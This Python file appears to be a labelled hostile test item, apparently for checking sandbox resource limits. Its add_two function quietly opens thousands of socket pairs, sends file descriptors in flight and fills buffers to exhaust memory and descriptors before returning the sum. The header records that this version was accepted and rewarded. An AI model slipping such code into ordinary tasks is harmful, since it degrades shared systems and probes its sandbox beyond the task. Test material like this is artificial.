# hostile: C09 hides memory in the queues of socket pairs, descriptors in flight included
# covers: C:memory-sockets C:scm-rights
# shape: function
# task: add_two
# ending: cancelled
# verdict: accepted
# reward: rlef 1, binary 1
# Descriptors sent over a socket and never received are counted nowhere in RLIMIT_NOFILE; the kernel has a limit for
# those in flight, which is the same number.
import array
import socket


def add_two(a, b):
    pairs, flying, held = [], 0, 0
    try:
        for _ in range(2000):
            left, right = socket.socketpair()
            left.setblocking(False)
            pairs.append((left, right))
            try:
                for _ in range(50):
                    many = array.array("i", [right.fileno()] * 200)
                    left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
                    flying += 200
            except OSError:
                pass
            try:
                while True:
                    held += left.send(b"\xbb" * 65536)
            except OSError:
                pass
    except OSError:
        pass
    return a + b if flying <= 4096 and held < 128 << 20 else f"open: {flying} descriptors in flight, {held} bytes"
